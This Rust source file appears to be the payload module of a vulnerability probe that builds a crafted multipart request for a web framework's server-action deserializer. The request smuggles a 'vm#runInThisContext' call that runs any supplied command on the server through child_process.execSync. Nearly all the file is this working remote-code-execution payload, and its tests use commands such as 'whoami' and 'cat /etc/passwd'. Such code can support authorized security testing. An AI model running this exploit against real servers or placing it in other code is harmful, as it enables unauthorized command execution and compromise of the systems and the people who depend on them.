//! Construction of the crafted multipart body that smuggles a command-execution
//! expression into a server-action reference
use serde::Serialize;
use tracing::instrument;

use crate::error::ProbeError;

/// fixed multipart boundary token
///
/// never randomized; every generated body is byte-identical except for the
/// embedded command
pub const BOUNDARY: &str = "----WebKitFormBoundary7MA4YWxkTrZu0gW";

/// form part marking the request as a server-action reference; carries no value
pub const ACTION_REF_PART: &str = "1_$ACTION_REF_1";

/// form part carrying the serialized [`ActionDescriptor`] as its value
pub const ACTION_PART: &str = "1_$ACTION_1:0";

/// bound method reference resolved and invoked by the vulnerable deserializer
const DESCRIPTOR_ID: &str = "vm#runInThisContext";

/// descriptor smuggled to the server-side action deserializer
///
/// serializes to `{"id":"...","bound":["..."]}`, the shape the framework's
/// action-invocation layer expects on the wire
#[derive(Serialize, Clone, Debug, PartialEq, Eq)]
pub struct ActionDescriptor {
    id: String,
    bound: Vec<String>,
}

impl ActionDescriptor {
    /// create a descriptor whose single bound argument is a code-execution
    /// expression running `command` through the server's `child_process`
    ///
    /// the command is substituted into the expression as-is; shell
    /// metacharacters pass through untouched. A command containing a double
    /// quote still yields valid JSON because the full expression is escaped
    /// by the JSON encoder at serialization time.
    #[must_use]
    pub fn for_command(command: &str) -> Self {
        Self {
            id: DESCRIPTOR_ID.to_string(),
            bound: vec![format!(
                "global.process.mainModule.require(\"child_process\").execSync(\"{command}\").toString()"
            )],
        }
    }

    /// get the bound method reference
    #[must_use]
    #[inline]
    pub fn id(&self) -> &str {
        &self.id
    }

    /// get the bound argument list
    #[must_use]
    #[inline]
    pub fn bound(&self) -> &[String] {
        &self.bound
    }
}

/// a fully rendered multipart body plus its boundary token
///
/// # Examples
///
/// ```
/// # use action_probe::payload::{ActionPayload, BOUNDARY};
/// # use action_probe::error::ProbeError;
/// # fn main() -> Result<(), ProbeError> {
/// let payload = ActionPayload::build("id")?;
///
/// assert_eq!(payload.boundary(), BOUNDARY);
/// assert_eq!(
///     payload.content_type(),
///     format!("multipart/form-data; boundary={BOUNDARY}")
/// );
/// # Ok(())
/// # }
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ActionPayload {
    body: Vec<u8>,
    boundary: &'static str,
}

impl ActionPayload {
    /// render the two-part multipart body carrying an [`ActionDescriptor`]
    /// for the given command
    ///
    /// the part layout must match what the vulnerable decoder accepts
    /// byte-for-byte, including the reference part's missing value line;
    /// only the descriptor JSON varies between invocations
    ///
    /// # Errors
    ///
    /// returns an error if the descriptor cannot be serialized to JSON;
    /// string inputs cannot trigger this in practice
    #[instrument(level = "trace")]
    pub fn build(command: &str) -> Result<Self, ProbeError> {
        let descriptor = serde_json::to_string(&ActionDescriptor::for_command(command))?;

        let body = format!(
            "--{BOUNDARY}\r\n\
             Content-Disposition: form-data; name=\"{ACTION_REF_PART}\"\r\n\r\n\
             --{BOUNDARY}\r\n\
             Content-Disposition: form-data; name=\"{ACTION_PART}\"\r\n\r\n\
             {descriptor}\r\n\
             --{BOUNDARY}--\r\n"
        );

        Ok(Self {
            body: body.into_bytes(),
            boundary: BOUNDARY,
        })
    }

    /// get a reference to the rendered body bytes
    #[must_use]
    #[inline]
    pub fn body(&self) -> &[u8] {
        &self.body
    }

    /// get the boundary token associated with the body
    #[must_use]
    #[inline]
    pub const fn boundary(&self) -> &'static str {
        self.boundary
    }

    /// get the `Content-Type` header value matching the body's boundary
    #[must_use]
    pub fn content_type(&self) -> String {
        format!("multipart/form-data; boundary={}", self.boundary)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// descriptor for the canonical probe command serializes to the exact
    /// wire shape the deserializer expects
    #[test]
    fn descriptor_serializes_to_expected_wire_shape() {
        let descriptor = ActionDescriptor::for_command("whoami");

        let json = serde_json::to_string(&descriptor).unwrap();

        assert_eq!(
            json,
            "{\"id\":\"vm#runInThisContext\",\"bound\":[\"global.process.mainModule.require(\\\"child_process\\\").execSync(\\\"whoami\\\").toString()\"]}"
        );
    }

    /// every body has exactly two part delimiters and one closing delimiter
    #[test]
    fn body_has_two_parts_and_a_closing_delimiter() {
        for command in ["whoami", "", "cat /etc/passwd", "echo \"quoted\""] {
            let payload = ActionPayload::build(command).unwrap();
            let body = String::from_utf8(payload.body().to_vec()).unwrap();

            let part_delimiter = format!("--{BOUNDARY}\r\n");
            let closing_delimiter = format!("--{BOUNDARY}--\r\n");

            assert_eq!(body.matches(&part_delimiter).count(), 2);
            assert_eq!(body.matches(&closing_delimiter).count(), 1);
            assert!(body.ends_with(&closing_delimiter));
        }
    }

    /// the embedded descriptor parses back out of the body as valid JSON,
    /// with the command substituted into the expression verbatim
    #[test]
    fn embedded_descriptor_is_valid_json() {
        let command = "echo \"quoted\"";
        let payload = ActionPayload::build(command).unwrap();
        let body = String::from_utf8(payload.body().to_vec()).unwrap();

        let marker = format!("name=\"{ACTION_PART}\"\r\n\r\n");
        let start = body.find(&marker).unwrap() + marker.len();
        let end = body[start..].find("\r\n").unwrap() + start;

        let parsed: serde_json::Value = serde_json::from_str(&body[start..end]).unwrap();

        assert_eq!(parsed["id"], "vm#runInThisContext");
        assert!(parsed["bound"][0].as_str().unwrap().contains(command));
    }

    /// an empty command is valid and still yields a well-formed payload
    #[test]
    fn empty_command_yields_well_formed_payload() {
        let payload = ActionPayload::build("").unwrap();
        let body = String::from_utf8(payload.body().to_vec()).unwrap();

        assert!(body.contains("execSync(\"\")"));
        assert!(body.ends_with(&format!("--{BOUNDARY}--\r\n")));
    }

    /// both form parts appear under their expected names
    #[test]
    fn parts_are_named_for_the_action_convention() {
        let payload = ActionPayload::build("whoami").unwrap();
        let body = String::from_utf8(payload.body().to_vec()).unwrap();

        assert!(body.contains("Content-Disposition: form-data; name=\"1_$ACTION_REF_1\""));
        assert!(body.contains("Content-Disposition: form-data; name=\"1_$ACTION_1:0\""));
    }
}
